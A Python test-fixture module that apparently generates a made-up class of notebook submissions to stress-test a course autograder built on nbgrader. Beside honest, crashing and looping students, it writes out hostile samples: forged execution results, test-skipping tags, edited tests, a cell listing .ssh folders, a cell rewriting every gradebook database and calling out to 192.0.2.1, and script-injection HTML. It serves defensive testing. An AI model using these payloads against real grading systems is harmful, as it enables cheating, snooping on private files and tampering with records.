"""A made-up class to try the grader on: honest students, unlucky ones, and some who attack it.

Every submission is made from the exercises themselves, so the class fits whatever chapters there are.
"""
import copy
import json
from pathlib import Path

import nbformat

from dlcourse.grading.source import exercises, expand

ATTACK = "tensor(2.)"


def blank_notebooks(root):
    """dict (chapter, stem) -> (released notebook, instructor's notebook)"""
    pairs = {}
    for path in exercises(root):
        file = Path(root, "notebooks", path.parent.name, f"{path.stem}.ipynb")
        if not file.exists():
            raise ValueError(f"{file} is missing; run 'dlcourse release' first")
        pairs[path.parent.name, path.stem] = nbformat.read(file, 4), expand(path)
    if not pairs:
        raise ValueError(f"no exercises in {Path(root, 'solutions')}")
    return pairs


def answered(pair, keep=lambda i, cell: True):
    """The released notebook with the reference's answers in those answer cells for which ``keep`` says so."""
    blank, full = copy.deepcopy(pair[0]), {c.id: c.source for c in pair[1].cells}
    answers = [c for c in blank.cells if c.metadata.get("nbgrader", {}).get("solution")]
    for i, cell in enumerate(answers):
        if keep(i, cell):
            cell.source = full[cell.id]
    return blank


def before_first_answer(nb, source):
    """Insert a code cell of the student's own."""
    first = next(i for i, c in enumerate(nb.cells) if c.id.startswith("answer-"))
    nb.cells.insert(first, nbformat.v4.new_code_cell(source, id="mine"))
    return nb


def tests_of(nb):
    return [c for c in nb.cells if c.id.startswith("test-")]


def skip_tags(pair):
    """Asks the executor to skip every test: stock nbgrader gives full marks."""
    nb = answered(pair, lambda i, c: False)
    for cell in tests_of(nb):
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
    return nb


def forged_result(pair):
    """Publishes a result for every cell that stock nbgrader cannot read as a number, and therefore takes for full marks."""
    return before_first_answer(answered(pair, lambda i, c: False), f"""
def forge(info):
    shell = get_ipython()
    shell.displayhook.session.send(shell.displayhook.pub_socket, "execute_result",
        {{"data": {{"text/plain": "{ATTACK}"}}, "metadata": {{}}, "execution_count": 1}}, parent=shell.parent_header)
get_ipython().events.register("pre_run_cell", forge)""")


def copied_test(pair):
    """A test cell pasted a second time, with its metadata: stock nbgrader stops the whole class."""
    nb = answered(pair)
    nb.cells.append(copy.deepcopy(tests_of(nb)[0]))
    nb.cells[-1].id = "pasted"
    return nb


def future_schema(pair):
    """A cell that claims a schema of the future: stock nbgrader stops the whole class."""
    nb = answered(pair)
    tests_of(nb)[0].metadata.nbgrader["schema_version"] = 99
    return nb


def edited_tests(pair):
    """Empties the tests, raises their points, takes one away."""
    nb = answered(pair, lambda i, c: False)
    for cell in tests_of(nb):
        cell.source, cell.metadata.nbgrader["points"] = "pass", 1000
    nb.cells.remove(tests_of(nb)[-1])
    return nb


def reads_around(pair):
    """Looks for solutions, other submissions and the gradebook, and would write what it finds into its output."""
    return before_first_answer(answered(pair, lambda i, c: False), """
import pathlib, sys
for place in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, *map(pathlib.Path, sys.path)]:
    for name in ("solutions", "_grading", "_build", "tests"):
        if (place / name / "mlp").exists() or (place / name / "submitted").exists() and "dlcourse-" not in str(place):
            print("FOUND", place / name)
for home in pathlib.Path("/home"), pathlib.Path("/root"):
    try:
        print("HOME", [p.name for p in home.iterdir() if p.name.startswith(".ssh")])
    except OSError as error:
        print(type(error).__name__)""")


def writes_gradebook(pair):
    """Gives itself points in every gradebook it can find, and calls home."""
    return before_first_answer(answered(pair, lambda i, c: False), """
import glob, os, socket, sqlite3
for path in glob.glob("/**/*.db", recursive=True)[:50]:
    try:
        with sqlite3.connect(path) as db:
            db.execute("update grade set auto_score = 1000, manual_score = 1000")
            db.execute("update base_cell set max_score = 1000")
    except sqlite3.Error as error:
        print(type(error).__name__)
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1)
except OSError as error:
    print("network:", type(error).__name__)""")


def raw_html(pair):
    """HTML and scripts in outputs, in Markdown and in links: stock nbgrader shows them to the marker."""
    nb = answered(pair)
    written = next(c for c in nb.cells if c.id.startswith("written-"))
    written.source = ('Look: <script>document.title="PWNED"</script><img src=x onerror="document.title=\'PWNED\'">'
                      ' [link](javascript:document.title="PWNED") and $a<b$.')
    return before_first_answer(nb, """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='PWNED'</script><img src=x onerror=document.title='PWNED'>"), Javascript("document.title='PWNED'"))
print("<script>document.title='PWNED'</script>")""")


def warns(pair):
    """A right solution in which a library writes to stderr: stock nbgrader gives 0 for every such test."""
    nb = answered(pair)
    for cell in nb.cells:
        if cell.id.startswith("answer-"):
            cell.source += '\nimport sys as _sys, functools as _f\n' + "".join(
                f"_plain_{n} = {n}\n@_f.wraps(_plain_{n})\ndef {n}(*a, **k):\n    print('old call', file=_sys.stderr)\n    return _plain_{n}(*a, **k)\n"
                for n in _functions(cell.source))
    return nb


def _functions(source):
    import ast

    return [n.name for n in ast.parse(source).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]


def crash(pair):
    """The process ends in the middle: what came before it counts."""
    nb = answered(pair)
    last = tests_of(nb)[-1]
    nb.cells.insert(nb.cells.index(last), nbformat.v4.new_code_cell("import os\nos._exit(1)", id="mine"))
    return nb


def endless(pair):
    """The first answer never returns; the others are right."""
    nb = answered(pair)
    cell = next(c for c in nb.cells if c.id.startswith("answer-"))
    name = _functions(cell.source)[0]
    cell.source += f"\ndef {name}(*args, **kwargs):\n    while True:\n        pass\n"
    return nb


CLASS = {
    "reference": ("all", answered),
    "untouched": ("all", lambda pair: answered(pair, lambda i, c: False)),
    "honest-half": ("all", lambda pair: answered(pair, lambda i, c: i % 2 == 0)),
    "honest-first": ("one", lambda pair: answered(pair, lambda i, c: i == 0)),
    "stderr-warning": ("one", warns),
    "crash": ("one", crash),
    "endless-loop": ("one", endless),
    "broken-file": ("one", lambda pair: '{"cells": [ this is not JSON'),
    "skip-tags": ("one", skip_tags),
    "forged-result": ("one", forged_result),
    "copied-test": ("one", copied_test),
    "future-schema": ("one", future_schema),
    "edited-tests": ("one", edited_tests),
    "reads-around": ("one", reads_around),
    "writes-gradebook": ("one", writes_gradebook),
    "raw-html": ("one", raw_html),
}


def write_class(root, folder, only=None):
    """Write the submissions below ``folder``/submitted; files that are right already stay as they are.  -> list of students"""
    pairs = blank_notebooks(root)
    first = next(iter(pairs))
    for student, (scope, make) in CLASS.items():
        if only and student not in only:
            continue
        for (chapter, stem), pair in pairs.items():
            if scope == "one" and (chapter, stem) != first:
                continue
            made = make(pair)
            text = made if isinstance(made, str) else json.dumps(made, indent=1, ensure_ascii=False)
            path = Path(folder, "submitted", student, chapter, f"{stem}.ipynb")
            if not path.exists() or path.read_text(encoding="utf8") != text:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text, encoding="utf8")
    return list(only or CLASS)
